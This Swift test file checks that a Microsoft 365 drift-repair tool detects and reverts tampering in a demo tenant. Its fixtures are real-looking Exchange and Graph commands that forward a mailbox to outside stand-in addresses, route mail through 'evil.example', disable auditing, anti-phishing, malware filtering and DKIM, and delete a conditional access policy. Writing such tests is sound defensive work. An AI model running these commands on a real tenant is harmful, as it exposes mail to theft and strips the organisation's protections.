import MMCore
import MMGraph
import Testing

@testable import MMOperations

@Suite("Repairs of drift", .timeLimit(.minutes(15)))
struct RepairTests {
    /// Changes of every kind, and what they are found as.
    private static let scripts = [
        "Set-RemoteDomain Default -AutoForwardEnabled $false -AllowedOOFType None",
        "Set-OutboundConnector 'To the partner' -Enabled $false -SmartHosts evil.example",
        "Set-InboundConnector 'From the scanner network' -RequireTls $false -SenderIPAddresses 198.51.100.7",
        "Set-HostedOutboundSpamFilterPolicy Default -AutoForwardingMode On -RecipientLimitPerDay 500",
        "Set-OrganizationConfig -AuditDisabled $true -MailTipsAllTipsEnabled $false",
        "Set-AcceptedDomain contoso-sandbox.example -DomainType InternalRelay -MatchSubDomains $true",
        "Set-HostedContentFilterPolicy Default -AllowedSenderDomains evil.example -SpamZapEnabled $false -BulkThreshold 9",
        "Set-HostedConnectionFilterPolicy Default -IPAllowList 203.0.113.9,192.0.2.25 -EnableSafeList $true",
        "Set-AntiPhishPolicy 'Office365 AntiPhish Default' -EnableSpoofIntelligence $false -Enabled $false",
        "Set-MalwareFilterPolicy Default -EnableFileFilter $false -FileTypes @()",
        "Set-SafeLinksPolicy Everybody -EnableSafeLinksForEmail $false -DoNotRewriteUrls 'evil.example/*'",
        "Set-SafeAttachmentPolicy Everybody -Action Allow -Enable $false",
        "Set-DkimSigningConfig contoso-sandbox.example -Enabled $false",
        "Set-RetentionPolicy 'Default MRM Policy' -RetentionPolicyTagLinks 'Deleted Items'",
        "Set-SharingPolicy 'Default Sharing Policy' -Domains '*:CalendarSharingFreeBusyReviewer'",
        "Disable-TransportRule 'Bcc legal'",
        "Set-Mailbox lena.vogt -ForwardingSmtpAddress away@fabrikam.example -DeliverToMailboxAndForward $true",
        "New-InboxRule -Mailbox lena.vogt -Name Copy -ForwardTo evil@fabrikam.example",
        "Add-MailboxPermission lena.vogt -User OTHER -AccessRights FullAccess",
        "Set-MailboxFolderPermission 'lena.vogt:\\Calendar' -User Default -AccessRights Reviewer",
    ]

    private static let kinds: [JSONValue] = SnapshotKind.all.filter { $0.service != .teams && $0.name != "flows" }
        .map { .string($0.name) }

    @Test("each command that is proposed brings its object back, as it was as a whole")
    func carriedOut() async throws {
        let tenant = try await ChangesHome(users: 16)
        let taken = ChangesHome.value(
            try await tenant.call("snapshot_take", ["connection": "Demo", "only": .array(Self.kinds)]))
        #expect(taken["leftOut"]?.array?.isEmpty == true, "\(taken["leftOut"] ?? .null)")
        let calm = try await tenant.call("drift", ["connection": "Demo"])
        #expect(calm.exitStatus == 0, "\(calm.text ?? "")")
        let other = try #require(
            try await tenant.list("/users?$select=userPrincipalName").compactMap { $0["userPrincipalName"]?.string }
                .first { !$0.contains("#") && !$0.hasPrefix("lena.") && !$0.hasPrefix("admin") })
        for script in Self.scripts { try await tenant.run(script.replacing("OTHER", with: other)) }
        try await Self.changeDirectory(of: tenant)

        let found = try await tenant.call("drift", ["connection": "Demo", "repair": true])
        #expect(found.exitStatus == 2)
        let report = ChangesHome.value(found)
        let findings = report["findings"]?.array ?? []
        #expect(findings.count >= Self.scripts.count + 7, "\(found.text ?? "")")
        var commands = 0
        for proposal in report["proposals"]?.array ?? [] {
            guard let command = proposal["command"]?.string else {
                Issue.record("no command for \(proposal)")
                continue
            }
            commands += 1
            do {
                try await Self.run(command, in: tenant)
            } catch {
                Issue.record("\(command): \(error)")
            }
        }
        #expect(commands >= findings.count, "\(commands)")
        let left = try await tenant.call("drift", ["connection": "Demo"])
        // What was made anew has another id, and is the same otherwise.
        let changes = (ChangesHome.value(left)["findings"]?.array ?? []).flatMap { $0["changes"]?.array ?? [] }
        #expect(changes.allSatisfy { $0["path"] == ["id"] } && changes.count == 1, "\(left.text ?? "")")
        let mailbox = try await tenant.run("Get-Mailbox lena.vogt")
        #expect((mailbox[0] ?? mailbox)["DeliverToMailboxAndForward"] == false)
        await tenant.stop()
    }

    /// Changes what Graph holds: settings, and objects that come and go.
    private static func changeDirectory(of tenant: ChangesHome) async throws {
        func first(_ path: String) async throws -> String {
            try #require(try await tenant.list(path).first?["id"]?.string)
        }
        for (path, body) in [
            ("/policies/identitySecurityDefaultsEnforcementPolicy", ["isEnabled": true]),
            ("/policies/crossTenantAccessPolicy/default", ["inboundTrust": ["isMfaAccepted": true]]),
            ("/policies/authorizationPolicy", ["allowInvitesFrom": "everyone"]),
            ("/policies/adminConsentRequestPolicy", ["isEnabled": false]),
        ] as [(String, JSONValue)] { try await tenant.graph("PATCH", path, body) }
        let location = try await first("/identity/conditionalAccess/namedLocations")
        try await tenant.graph(
            "PATCH", "/identity/conditionalAccess/namedLocations/\(location)",
            ["@odata.type": "#microsoft.graph.ipNamedLocation", "isTrusted": false])
        let policy = try await first("/identity/conditionalAccess/policies")
        try await tenant.graph("DELETE", "/identity/conditionalAccess/policies/\(policy)")
        let unit = try await first("/directory/administrativeUnits")
        try await tenant.graph("PATCH", "/directory/administrativeUnits/\(unit)", ["description": "Changed"])
        try await tenant.graph("POST", "/directory/administrativeUnits", ["displayName": "New by hand"])
        let group = try await first("/groups?$filter=displayName eq 'VPN Users'")
        let user = try #require(try await tenant.list("/users?$select=id").last?["id"]?.string)
        try await tenant.graph(
            "POST", "/groups/\(group)/owners/$ref",
            ["@odata.id": .string("https://graph.microsoft.com/v1.0/directoryObjects/\(user)")])
    }

    /// Carries a proposed command line out, as a shell would read it.
    static func run(_ command: String, in tenant: ChangesHome) async throws {
        let words = words(of: command)
        guard words.count > 3, words[0] == "mm" else { throw MMError(.invalidInput, command) }
        if words[1] == "run" {
            _ = try await tenant.call(
                "run", ["connection": .string(words[2]), "module": .string(words[3]), "command": .string(words[4])])
            return
        }
        var arguments: JSONObject = ["connection": .string(words[2]), "endpoint": .string(words[3])]
        for (name, value) in zip(words.dropFirst(4), words.dropFirst(5)) {
            switch name {
            case "-X": arguments["method"] = .string(value)
            case "-d": arguments["body"] = try JSONParser.parse(Array(value.utf8))
            case "--resource": arguments["resource"] = .string(value)
            default: continue
            }
        }
        _ = try await tenant.call("graph_request", arguments)
    }

    private static func words(of command: String) -> [String] {
        var words: [String] = []
        var word = ""
        var (isQuoted, isOpen) = (false, false)
        var rest = command[...]
        while let character = rest.popFirst() {
            switch character {
            case "'":
                (isQuoted, isOpen) = (!isQuoted, true)
            case "\\" where !isQuoted: if let next = rest.popFirst() { word.append(next) }
            case " " where !isQuoted:
                if isOpen || !word.isEmpty { words.append(word) }
                (word, isOpen) = ("", false)
            default: word.append(character)
            }
        }
        return words + (isOpen || !word.isEmpty ? [word] : [])
    }
}
